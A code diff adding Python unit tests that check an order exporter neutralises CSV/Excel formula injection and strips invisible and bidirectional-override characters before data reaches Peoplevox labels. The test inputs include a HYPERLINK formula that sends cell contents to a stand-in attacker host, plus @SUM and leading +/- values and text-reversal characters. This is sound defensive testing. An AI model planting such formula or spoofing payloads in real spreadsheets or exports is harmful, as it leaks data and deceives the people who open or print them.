@@ -110,6 +110,41 @@ def test_hostile_text_is_flattened() -> None:
     assert result.header.ContactName == "Zoë 王"
 
 
+def test_formulas_and_invisible_characters_never_reach_peoplevox_labels() -> None:
+    """Exports get opened in Excel and printed on labels (issue 16 item 6; rule in text.py)."""
+    address = GOOD_ADDRESS.model_copy(
+        update={
+            "name": '=HYPERLINK("http://evil.example/?"&A1,"Track parcel")',
+            "company": "\u202eLtd Evil\u202c",
+            "address1": "1 High\u200b Street\u2066",
+            "address2": "@SUM(A1:A9) House",
+            "city": "\ufeff-London",
+            "phone": "+44 7700 900123",
+        }
+    )
+    result = translate(
+        make_order(shipping_address=address, email="+cmd@example.com", phone="+44 7700 900123")
+    )
+    assert isinstance(result, TranslatedOrder)
+    header = result.header
+    assert header.ContactName == '\'=HYPERLINK("http://evil.example/?"&A1,"Track parcel"), Ltd Evil'
+    assert header.ShippingAddressLine1 == "1 High Street"
+    assert header.ShippingAddressLine2 == "'@SUM(A1:A9) House"
+    assert header.ShippingAddressCity == "'-London"
+    assert header.Email == "'+cmd@example.com"
+    for value in header.as_csv_row().values():
+        assert not value.startswith(("=", "+", "-", "@")), value
+        assert not any(0x200B <= ord(c) <= 0x200F or 0x202A <= ord(c) <= 0x202E for c in value), value
+
+
+def test_phone_numbers_and_plain_numbers_stay_as_typed() -> None:
+    address = GOOD_ADDRESS.model_copy(update={"address2": "-1"})
+    result = translate(make_order(shipping_address=address, email=None, phone="+44 (0)7700 900-123"))
+    assert isinstance(result, TranslatedOrder)
+    assert result.header.Customer == "+44 (0)7700 900-123"
+    assert result.header.ShippingAddressLine2 == "-1"
+
+
 def test_b2b_routing_reaches_the_header() -> None:
     result = translate(make_order(customer_tags=("B2B",)))
     assert isinstance(result, TranslatedOrder)
